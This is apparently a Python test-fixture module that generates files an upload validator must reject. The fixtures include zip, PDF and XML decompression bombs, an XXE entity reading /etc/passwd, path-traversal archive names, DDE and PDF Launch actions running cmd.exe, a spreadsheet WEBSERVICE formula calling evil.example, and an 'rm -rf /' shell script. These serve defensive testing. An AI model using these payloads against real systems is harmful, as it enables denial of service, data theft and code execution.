"""Files nobody should be able to lay on the table: each is made here, with the reason it is turned away for."""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from io import BytesIO
from itertools import pairwise
from random import Random

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, StreamObject, TextStringObject

from cloudnego.files.kinds import FileKind, Why
from tests.files import lawful

Made = Callable[[], bytes]
_EXTERNAL = ' TargetMode="External"'


def _docx(**more: bytes | str) -> bytes:
    """A document with parts more, or others; `__` stands for a slash, `_DOT_` for a dot."""
    named = {name.replace("__", "/").replace("_DOT_", "."): part for name, part in more.items()}
    return lawful.zipped(lawful.docx_parts() | named)


def _document(inner: str, prolog: str = "") -> bytes:
    whole = str(lawful.docx_parts()["word/document.xml"])
    head, _, rest = whole.partition("?>\n")
    return _docx(word__document_DOT_xml=f"{head}?>\n{prolog}{rest}".replace("<w:body>", f"<w:body>{inner}"))


def _noise(length: int) -> bytes:
    """Bytes that compress to half, the same each time."""
    return Random(4).randbytes(length // 2).hex().encode()[:length]


# --- archives -----------------------------------------------------------------------------------------------------


def nested_bomb() -> bytes:
    """42.zip in small: zips in a zip, each of which unpacks to megabytes of nothing."""
    inner = lawful.zipped({"0": bytes(4 << 20)})
    return _docx(**{f"word__media__{n}_DOT_bin": inner for n in range(16)})


def dense() -> bytes:
    return _docx(word__media__a_DOT_bin=bytes(20 << 20))


def wide() -> bytes:
    """Each part is lawful; together they are not."""
    dice = Random(5)
    part = b"".join(dice.randbytes(150).hex().encode() + b" " * 9000 for _ in range(2100))
    return _docx(**{f"word__media__{n}_DOT_bin": part for n in range(3)})


def crowded() -> bytes:
    return lawful.zipped({**lawful.docx_parts(), **{f"word/media/{n}.png": b"" for n in range(1001)}})


def _directory(files: list[tuple[bytes, int, bytes, int, int]]) -> bytes:
    """The directory of (name, crc, packed, size, offset) and its end."""
    found = b""
    for name, crc, packed, size, offset in files:
        found += (
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                33,
                crc,
                len(packed),
                size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + name
        )
    return found


def quoted_overlap() -> bytes:
    """Fifield's: one kernel, and each part before it quotes the head of the next as a stored block of its own."""
    kernel, size = _noise(1 << 20), 1 << 20
    flow = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed, crc = flow.compress(kernel) + flow.flush(), zlib.crc32(kernel)
    whole, files = _local(b"0", crc, packed, size) + packed, [(b"0", crc, packed, size, 0)]
    plain = kernel
    for number in range(1, 30):
        head = whole[: 30 + len(files[0][0])]
        quoted = struct.pack("<BHH", 0, len(head), len(head) ^ 0xFFFF) + head
        plain = head + plain
        name, stream = str(number).encode(), quoted + files[0][2]
        crc = zlib.crc32(plain)
        local = _local(name, crc, stream, len(plain))
        moved = len(local) + 5
        whole = local + quoted[:5] + whole
        files = [(name, crc, stream, len(plain), 0)] + [(*one[:4], one[4] + moved) for one in files]
    directory = _directory(files)
    return whole + directory + _end(len(files), len(directory), len(whole))


def _local(name: bytes, crc: int, packed: bytes, size: int) -> bytes:
    return struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 33, crc, len(packed), size, len(name), 0) + name


def _end(count: int, size: int, begin: int) -> bytes:
    return struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, size, begin, 0)


def liar() -> bytes:
    """Says in both places that its part is short, and unpacks to megabytes."""
    flow = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = flow.compress(bytes(8 << 20)) + flow.flush()
    said = zlib.crc32(bytes(100))
    local = _local(b"word/document.xml", said, packed, 100) + packed
    directory = _directory([(b"word/document.xml", said, packed, 100, 0)])
    return local + directory + _end(1, len(directory), len(local))


def linked() -> bytes:
    return _with_entry(lambda entry: setattr(entry, "external_attr", 0o120777 << 16))


def climbing() -> bytes:
    return _docx(**{"..__..__etc__passwd": b"x"})


def absolute() -> bytes:
    return _docx(__etc__passwd=b"x")


def twice_named() -> bytes:
    return lawful.zipped({**lawful.docx_parts(), "WORD/Document.xml": b"<a/>"})


def locked() -> bytes:
    return _with_entry(lambda entry: setattr(entry, "flag_bits", entry.flag_bits | 1))


def _with_entry(change: Callable[[zipfile.ZipInfo], None]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bundle:
        for name, part in lawful.docx_parts().items():
            bundle.writestr(name, part)
        change(bundle.infolist()[-1])
    return out.getvalue()


def before_the_zip() -> bytes:
    """A zip may begin anywhere: what stands before it is another document."""
    return b"PK\x03\x04" + bytes(60) + lawful.docx()


def behind_the_zip() -> bytes:
    return lawful.docx() + b"<html><script>alert(1)</script>"


def commented() -> bytes:
    out = BytesIO(lawful.docx())
    with zipfile.ZipFile(out, "a") as bundle:
        bundle.comment = b"<html>"
    return out.getvalue()


def truncated_zip() -> bytes:
    return lawful.docx()[:-200]


def bad_sum() -> bytes:
    whole = bytearray(lawful.zipped(lawful.docx_parts(), zipfile.ZIP_STORED))
    whole[whole.index("工资专项".encode())] ^= 1
    return bytes(whole)


# --- XML ----------------------------------------------------------------------------------------------------------


def billion_laughs() -> bytes:
    names = "abcdefghij"
    laughs = '<!ENTITY a "lol">' + "".join(
        f'<!ENTITY {two} "{f"&{one};" * 10}">' for one, two in pairwise(names)
    )  # fmt: skip
    return _document("&j;", f"<!DOCTYPE x [{laughs}]>")


def quadratic() -> bytes:
    times = "".join(f"&a;{number * 7919 % 10_007}" for number in range(20_000))
    return _document(times, f'<!DOCTYPE x [<!ENTITY a "{_noise(50_000).hex()}">]>')


def xxe() -> bytes:
    return _document("&a;", '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>')


def hidden_laughs() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "lol">]><x>&a;</x>'
    return _docx(word__styles_DOT_xml=text.encode("utf-16"))


# --- documents that act -------------------------------------------------------------------------------------------


def macro() -> bytes:
    return _docx(word__vbaProject_DOT_bin=b"x")


def macro_by_type() -> bytes:
    parts = lawful.docx_parts()
    types = str(parts["[Content_Types].xml"]).replace(
        "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "vnd.ms-word.document.macroEnabled.main+xml",
    )
    return lawful.zipped(parts | {"[Content_Types].xml": types})


def embedded_ole() -> bytes:
    return _docx(word__embeddings__a_DOT_bin=b"\xd0\xcf\x11\xe0" + bytes(100))


def ole_elsewhere() -> bytes:
    return _docx(word__media__a_DOT_png=b"\xd0\xcf\x11\xe0" + bytes(100))


def template_from_afar() -> bytes:
    there = lawful.relation("attachedTemplate", "https://evil.example/a.dotm", _EXTERNAL)
    return _docx(word___rels__settings_DOT_xml_DOT_rels=lawful.relations(there))


def share_from_afar() -> bytes:
    return _docx(
        word___rels__document_DOT_xml_DOT_rels=lawful.relations(
            lawful.relation("hyperlink", "file://\\\\evil\\share", _EXTERNAL)
        )
    )


def dde() -> bytes:
    return _document('<w:p><w:r><w:instrText> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p>')


def web_call() -> bytes:
    row = '<row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("http://evil.example/"&amp;B1)</f></c></row>'
    return lawful.zipped(lawful.xlsx_parts(row))


def external_book() -> bytes:
    return lawful.zipped(lawful.xlsx_parts() | {"xl/externalLinks/externalLink1.xml": "<a/>"})


# --- PDF ----------------------------------------------------------------------------------------------------------


def _pdf(change: Callable[[PdfWriter], object]) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    change(writer)
    return lawful.written(writer)


def script() -> bytes:
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    return _pdf(lambda writer: writer._root_object.update({NameObject("/OpenAction"): action}))


def script_by_number() -> bytes:
    """Names in a PDF may be spelt by numbers: /#4aS is /JS."""
    spelt = script().replace(b"/JavaScript", b"/#4aavaScript").replace(b"/JS ", b"/#4a#53 ")
    assert b"/JS" not in spelt
    assert b"/JavaScript" not in spelt
    return spelt


def attachment() -> bytes:
    return _pdf(lambda writer: writer.add_attachment("a.exe", b"MZ"))


def launch() -> bytes:
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/Win"): TextStringObject("cmd.exe")}
    )
    return _pdf(lambda writer: writer._root_object.update({NameObject("/OpenAction"): action}))


def from_a_share() -> bytes:
    def change(writer: PdfWriter) -> None:
        stream = StreamObject()
        stream[NameObject("/F")] = TextStringObject("\\\\evil\\share\\a")
        writer._add_object(stream)
        writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)

    return _pdf(change)


def with_password() -> bytes:
    return _pdf(lambda writer: writer.encrypt("", "owner", algorithm="AES-128"))


def pdf_bomb() -> bytes:
    def change(writer: PdfWriter) -> None:
        stream = StreamObject()
        stream[NameObject("/Filter")] = NameObject("/FlateDecode")
        stream.set_data(zlib.compress(bytes(60 << 20), 9))
        writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)

    return _pdf(change)


def pdf_bomb_in_a_bomb() -> bytes:
    def change(writer: PdfWriter) -> None:
        stream = StreamObject()
        stream[NameObject("/Filter")] = ArrayObject([NameObject("/FlateDecode"), NameObject("/Fl")])
        stream.set_data(zlib.compress(zlib.compress(bytes(1 << 20))))
        writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)

    return _pdf(change)


def deep_pdf() -> bytes:
    def change(writer: PdfWriter) -> None:
        inner = ArrayObject([FloatObject(1)])
        for _ in range(200):
            inner = ArrayObject([inner])
        writer._add_object(inner)

    return _pdf(change)


def pdf_and_zip() -> bytes:
    return lawful.pdf()[:-6] + lawful.docx() + b"\n%%EOF"


def zip_in_a_comment() -> bytes:
    """Both at once: a PDF to its end, whose last bytes are the end of an archive."""
    return lawful.pdf() + b"%" + lawful.zipped({"a": b"b"})


def truncated_pdf() -> bytes:
    return lawful.pdf()[:-40]


def no_pdf() -> bytes:
    return b"%PDF-1.7\n" + b"x" * 500 + b"\n%%EOF\n"


# --- pictures -----------------------------------------------------------------------------------------------------


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">L", len(data)) + name + data + struct.pack(">L", zlib.crc32(name + data))


def flood_png() -> bytes:
    head = struct.pack(">LLBBBBB", 60_000, 60_000, 8, 6, 0, 0, 0)
    rows = zlib.compress(bytes(1 << 20))
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def flood_jpeg() -> bytes:
    whole = bytearray(lawful.picture("JPEG"))
    at = whole.index(b"\xff\xc0")
    whole[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(whole)


def text_bomb() -> bytes:
    """A PNG whose comment unpacks to what no comment is."""
    comment = _chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(80 << 20), 9))
    whole = lawful.picture()
    return whole[:33] + comment + whole[33:]


def truncated_png() -> bytes:
    return lawful.picture(size=(640, 480))[:-300]


def truncated_jpeg() -> bytes:
    return lawful.picture("JPEG", (640, 480))[:-900]


BAD: dict[str, tuple[FileKind, Why, Made]] = {
    "zips in a zip": (FileKind.DOCX, Why.EMBEDDED, nested_bomb),
    "a part of zeros": (FileKind.DOCX, Why.BOMB, dense),
    "too much in all": (FileKind.DOCX, Why.BOMB, wide),
    "too many parts": (FileKind.DOCX, Why.BOMB, crowded),
    "parts that share bytes": (FileKind.DOCX, Why.HIDDEN, quoted_overlap),
    "a part longer than it says": (FileKind.DOCX, Why.BOMB, liar),
    "a symbolic link": (FileKind.DOCX, Why.HIDDEN, linked),
    "a name that climbs": (FileKind.DOCX, Why.HIDDEN, climbing),
    "an absolute name": (FileKind.DOCX, Why.HIDDEN, absolute),
    "one name twice": (FileKind.DOCX, Why.HIDDEN, twice_named),
    "an encrypted part": (FileKind.DOCX, Why.ENCRYPTED, locked),
    "something before the zip": (FileKind.DOCX, Why.HIDDEN, before_the_zip),
    "something behind the zip": (FileKind.DOCX, Why.HIDDEN, behind_the_zip),
    "a comment of the zip": (FileKind.DOCX, Why.HIDDEN, commented),
    "a zip cut short": (FileKind.DOCX, Why.DAMAGED, truncated_zip),
    "a part with another sum": (FileKind.DOCX, Why.DAMAGED, bad_sum),
    "a zip that is no document": (FileKind.XLSX, Why.MISMATCH, lambda: lawful.zipped({"a.txt": b"a"})),
    "a text called a table": (FileKind.XLSX, Why.MISMATCH, lawful.docx),
    "billion laughs": (FileKind.DOCX, Why.ENTITIES, billion_laughs),
    "quadratic blow-up": (FileKind.DOCX, Why.ENTITIES, quadratic),
    "an entity from a file": (FileKind.DOCX, Why.ENTITIES, xxe),
    "laughs in UTF-16": (FileKind.DOCX, Why.ENTITIES, hidden_laughs),
    "a macro": (FileKind.DOCX, Why.ACTIVE, macro),
    "a macro by its type": (FileKind.DOCX, Why.ACTIVE, macro_by_type),
    "an object within": (FileKind.DOCX, Why.EMBEDDED, embedded_ole),
    "an object that says it is a picture": (FileKind.DOCX, Why.EMBEDDED, ole_elsewhere),
    "a template from afar": (FileKind.DOCX, Why.EXTERNAL, template_from_afar),
    "a share from afar": (FileKind.DOCX, Why.EXTERNAL, share_from_afar),
    "a field that starts programs": (FileKind.DOCX, Why.EXTERNAL, dde),
    "a formula that calls home": (FileKind.XLSX, Why.EXTERNAL, web_call),
    "another workbook": (FileKind.XLSX, Why.EXTERNAL, external_book),
    "a script in a PDF": (FileKind.PDF, Why.ACTIVE, script),
    "a script spelt by numbers": (FileKind.PDF, Why.ACTIVE, script_by_number),
    "a file in a PDF": (FileKind.PDF, Why.EMBEDDED, attachment),
    "a PDF that starts programs": (FileKind.PDF, Why.ACTIVE, launch),
    "a stream from a share": (FileKind.PDF, Why.EXTERNAL, from_a_share),
    "a PDF with a password": (FileKind.PDF, Why.ENCRYPTED, with_password),
    "a PDF bomb": (FileKind.PDF, Why.BOMB, pdf_bomb),
    "a bomb in a bomb": (FileKind.PDF, Why.BOMB, pdf_bomb_in_a_bomb),
    "a PDF without a bottom": (FileKind.PDF, Why.BOMB, deep_pdf),
    "a PDF that is a zip": (FileKind.PDF, Why.HIDDEN, pdf_and_zip),
    "a zip behind a PDF": (FileKind.PDF, Why.HIDDEN, zip_in_a_comment),
    "a PDF cut short": (FileKind.PDF, Why.DAMAGED, truncated_pdf),
    "a PDF in name": (FileKind.PDF, Why.DAMAGED, no_pdf),
    "a flood of pixels, PNG": (FileKind.PNG, Why.PIXELS, flood_png),
    "a flood of pixels, JPEG": (FileKind.JPEG, Why.PIXELS, flood_jpeg),
    "a comment without end": (FileKind.PNG, Why.DAMAGED, text_bomb),
    "a PNG cut short": (FileKind.PNG, Why.DAMAGED, truncated_png),
    "a JPEG cut short": (FileKind.JPEG, Why.DAMAGED, truncated_jpeg),
    "a picture called another": (FileKind.JPEG, Why.MISMATCH, lawful.picture),
    "nothing": (FileKind.TXT, Why.EMPTY, lambda: b""),
    "spaces": (FileKind.TXT, Why.EMPTY, lambda: b" \n "),
    "a drawing that runs": (FileKind.TXT, Why.KIND, lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'),
    "a page": (FileKind.TXT, Why.KIND, lambda: b"\n <!DOCTYPE html><html><script>x()</script>"),
    "a page called a table": (FileKind.CSV, Why.KIND, lambda: b"a,b<script>x()</script>\n"),
    "a program": (FileKind.TXT, Why.KIND, lambda: b"MZ\x90\0\x03" + bytes(200)),
    "a program called a PDF": (FileKind.PDF, Why.MISMATCH, lambda: b"MZ this program cannot be run in DOS mode"),
    "a script of the shell": (FileKind.TXT, Why.KIND, lambda: b"#!/bin/sh\nrm -rf /\n"),
    "rich text": (FileKind.TXT, Why.KIND, lambda: b"{\\rtf1 {\\object}}"),
    "old Chinese letters": (FileKind.TXT, Why.KIND, lambda: "姓名,工资".encode("gb18030")),
    "letters turned around": (FileKind.TXT, Why.HIDDEN, lambda: b"a\xe2\x80\xaeb"),
    "control characters": (FileKind.CSV, Why.HIDDEN, lambda: b"a,\x1b[31mb\n" + b"c" * 2000),
}  # fmt: skip
"""By name: what it says it is, why it is turned away, and how it is made."""


@cache
def made(name: str) -> bytes:
    """The file, made once."""
    return BAD[name][2]()


BOMBS = (
    "zips in a zip", "a part of zeros", "too much in all", "too many parts", "parts that share bytes",
    "a part longer than it says", "billion laughs", "quadratic blow-up", "a PDF bomb", "a PDF without a bottom",
    "a flood of pixels, PNG", "a flood of pixels, JPEG", "a comment without end",
)  # fmt: skip
